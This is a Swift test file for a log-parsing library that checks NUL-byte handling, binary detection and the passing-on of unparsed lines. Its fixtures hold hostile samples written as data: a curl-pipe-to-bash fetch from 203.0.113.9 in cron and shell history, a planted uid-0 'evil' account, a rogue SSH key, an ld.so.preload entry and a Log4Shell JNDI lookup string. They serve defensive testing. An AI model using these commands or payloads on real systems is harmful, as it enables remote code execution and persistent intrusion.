import Bytes
import Evidence
import Testing

@testable import LogParse

/// What readers of lines share: what is text at all, and what becomes of a line that is not understood.
@Suite struct TextLinesTests {
  private func isText(_ bytes: [UInt8]) -> Bool {
    bytes.withView { FormatSample(head: $0, path: "x", isWhole: true).isText }
  }

  /// One NUL must not hide a file.
  @Test(arguments: [
    ("etc/passwd", "root:x:0:0:ro\0ot:/root:/bin/bash\nevil:x:0:0::/root:/bin/sh\n", 2),
    ("root/.bash_history", "ls\n\0\ncurl -s http://203.0.113.9/x | bash\n", 2),
    ("etc/cron.d/x", "# \0 x\n*/5 * * * * root curl -s http://203.0.113.9/x | bash\n", 1),
    (
      "root/.ssh/authorized_keys",
      "# \0 x\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJbAAAAC3NzaC1lZDI1NTE5AAAAIGJbAAAAC3NzaC1lZDI1NTE root@evil\n", 1
    ),
    ("etc/ld.so.preload", "\0/lib/evil.so\n", 1),
    ("var/log/audit.log", "type=USER_LOGIN msg=audit(1795584013.123:457): pid=1 acct=\"ro\0t\" res=failed\n", 1),
  ])
  func aFewZerosAreText(_ path: String, _ text: String, _ events: Int) throws {
    let dump = try EventDump(text, path: path)
    #expect(dump.format != nil && dump.events.count >= events, "\(path): \(dump.text)")
    #expect(HostileInputTests.isWhole(dump, text.utf8.count))
  }

  @Test func binaryFormatsAreNoText() {
    let line = Array("203.0.113.9 - - [25/Nov/2026:05:20:12 +0000]\n".utf8)
    #expect(isText(line + [0] + line) && isText([UInt8](repeating: 0, count: 70) + line + [0] + line))
    #expect(!isText(line.flatMap { [$0, 0] }) && !isText(line.flatMap { [0, $0] }))
    #expect(
      !isText([0x7F] + Array("ELF".utf8) + [2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0x3E, 0, 1, 0, 0, 0] + line))
    // Records without lines, and bytes that mean nothing.
    #expect(!isText(Array("a=b\0c=d\0".utf8)))
    var random = Splitmix(seed: 3)
    for _ in 0..<50 { #expect(!isText([0, 0x0A] + (0..<1024).map { _ in UInt8(truncatingIfNeeded: random.next()) })) }
  }

  @Test func whatIsSkippedIsHandedOnWhereItMayBeAnAttack() throws {
    let request = "198.51.100.3 - - [25/Nov/2026:05:20:11 +0000] \"GET / HTTP/1.1\" 200 11 \"-\" \"M\"\n"
    let text = request + "x ${jndi:ldap://203.0.113.9/a}\n" + request + "nothing of note\n" + request + request
    let dump = try EventDump(text, path: "access.log")
    #expect(dump.format == "web.access" && HostileInputTests.isWhole(dump, text.utf8.count))
    let lines = dump.events.filter { $0.dataType == "text:line" }
    #expect(lines.map { $0.text("text") } == ["x ${jndi:ldap://203.0.113.9/a}"])
    #expect(lines.first?.locator.line == 2 && lines.first?.locator.offset == UInt64(request.utf8.count))
    #expect(dump.coverages.count { $0.state == .skipped } == 2)
  }

  @Test func aFloodOfSkippedLinesIsBounded() throws {
    let text = String(repeating: "${a}\n", count: SkippedLine.limit + 500)
    let dump = try EventDump(text, path: "etc/passwd", format: PasswdFormat())
    #expect(dump.events.count == SkippedLine.limit)
    let long =
      String(repeating: "a", count: 500_000) + "${jndi:ldap://203.0.113.9/a}" + String(repeating: "b", count: 90_000)
    let cut = try #require(try EventDump(long, path: "etc/passwd", format: PasswdFormat()).events.first?.text("text"))
    #expect(cut.utf8.count == 1 << 16 && cut.contains("${jndi:ldap://203.0.113.9/a}"))
  }
}
